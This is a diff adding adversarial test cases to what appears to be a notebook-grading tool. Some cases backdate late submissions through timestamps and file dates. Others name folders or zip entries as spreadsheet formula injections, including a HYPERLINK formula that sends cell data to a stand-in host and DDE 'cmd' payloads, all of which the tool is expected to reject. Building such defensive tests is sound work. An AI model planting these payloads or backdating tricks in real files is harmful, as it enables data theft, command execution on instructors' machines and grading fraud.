@@ -70,6 +70,8 @@ class Submission:
     data: bytes | None = None
     link_to: Path | None = None  # a symbolic link in place of the notebook
     zip_entries: tuple[tuple[str, bytes, bool], ...] = ()  # (name, data, is a link)
+    beside: tuple[tuple[str, bytes], ...] = ()  # more files in the notebook's folder
+    mtime: float | None = None  # the notebook file's modification time, when set
 
 
 Build = Callable[[Ctx], Submission]
@@ -1531,6 +1533,139 @@ CASES += (
     ),
 )
 CATEGORIES = (*CATEGORIES, "pages", "definitions")
+
+# ============================================================================ hand-in
+# Trusted submission times (issue 9 "hand-in paths", issue 11 section 5) and CSV cells
+# (issue 11 section 2). A student backdates a late submission with every time a submission
+# can carry; a student names their folder or zip entry like a spreadsheet formula, which
+# would run when the instructor opens attention.csv. Times must come from collect (the
+# batch gives no times file: the time collect received them) and no CSV cell may be a live
+# formula; tests/hostile/handin_checks.py checks both across the whole batch.
+
+BACKDATE = 1577836800.0  # 2020-01-01 00:00 UTC
+BACKDATE_NBGRADER = b"2020-01-01 00:00:00.000000 UTC"
+
+
+def _backdated_folder(ctx: Ctx) -> Submission:
+    """nbgrader's own timestamp.txt beside the notebook, saying 2020."""
+    return Submission(dump(perfect(ctx)), beside=(("timestamp.txt", BACKDATE_NBGRADER),))
+
+
+def _backdated_mtime(ctx: Ctx) -> Submission:
+    return Submission(dump(perfect(ctx)), mtime=BACKDATE)
+
+
+def _backdated_zip(ctx: Ctx) -> Submission:
+    """In the class zip, with an ISO timestamp.txt; the entries' own date is the zip
+    format's earliest, 1980-01-01."""
+    folder = f"late_zip_timestamp_txt/{LESSON}"
+    return Submission(
+        zip_entries=(
+            (f"{folder}/{LESSON}.ipynb", dump(perfect(ctx)), False),
+            (f"{folder}/timestamp.txt", b"2020-01-01T00:00:00+00:00", False),
+        )
+    )
+
+
+def _zip_dated(ctx: Ctx) -> Submission:
+    """Only the zip entry's date (1980-01-01) says when."""
+    name = f"late_zip_entry_date/{LESSON}/{LESSON}.ipynb"
+    return Submission(zip_entries=((name, dump(perfect(ctx)), False),))
+
+
+def _formula_zip(name: str) -> Build:
+    return lambda ctx: Submission(
+        zip_entries=((f"{name}/{LESSON}/{LESSON}.ipynb", dump(perfect(ctx)), False),)
+    )
+
+
+def _formula_folder(ctx: Ctx) -> Submission:
+    return Submission(dump(perfect(ctx)))
+
+
+UNSAFE_ID = "is not a safe id"
+HANDIN_CASES: tuple[Case, ...] = (
+    Case(
+        "late_timestamp_txt",
+        "cheat",
+        "backdate: nbgrader's timestamp.txt beside the notebook says 2020",
+        _backdated_folder,
+    ),
+    Case(
+        "late_file_mtime",
+        "cheat",
+        "backdate: the notebook's modification time set to 2020",
+        _backdated_mtime,
+    ),
+    Case(
+        "late_zip_timestamp_txt",
+        "cheat",
+        "backdate: a timestamp.txt saying 2020 inside the class zip",
+        _backdated_zip,
+    ),
+    Case(
+        "late_zip_entry_date",
+        "cheat",
+        "backdate: the zip entry's date (1980) as the only time",
+        _zip_dated,
+    ),
+    Case(
+        '=HYPERLINK("evil.example?"&A1,"click")',
+        "host",
+        "a folder named like a spreadsheet formula (=HYPERLINK)",
+        _formula_folder,
+        loses=ALL,
+        status="not_collected",
+        reason=UNSAFE_ID,
+    ),
+    Case(
+        "@SUM(1+1)*cmd|'!A0",
+        "host",
+        "a zip entry named like a formula (@SUM, DDE)",
+        _formula_zip("@SUM(1+1)*cmd|'!A0"),
+        loses=ALL,
+        status="not_collected",
+        reason=UNSAFE_ID,
+    ),
+    Case(
+        "+cmd|'!A0",
+        "host",
+        "a folder named like a formula (+)",
+        _formula_folder,
+        loses=ALL,
+        status="not_collected",
+        reason=UNSAFE_ID,
+    ),
+    Case(
+        "-2+3",
+        "host",
+        "a folder named like a formula (-2+3)",
+        _formula_folder,
+        loses=ALL,
+        status="not_collected",
+        reason=UNSAFE_ID,
+    ),
+    Case(
+        "\t=1+1",
+        "host",
+        "a folder name starting with a tab, then a formula",
+        _formula_folder,
+        loses=ALL,
+        status="not_collected",
+        reason=UNSAFE_ID,
+    ),
+    Case(
+        "\r=1+1",
+        "host",
+        "a zip entry starting with a carriage return, then a formula",
+        _formula_zip("\r=1+1"),
+        loses=ALL,
+        status="not_collected",
+        reason=UNSAFE_ID,
+    ),
+)
+CASES = CASES + HANDIN_CASES
+# ======================================================================== end hand-in
 
 BY_NAME = {c.name: c for c in CASES}
 VICTIM = "ok_victim"
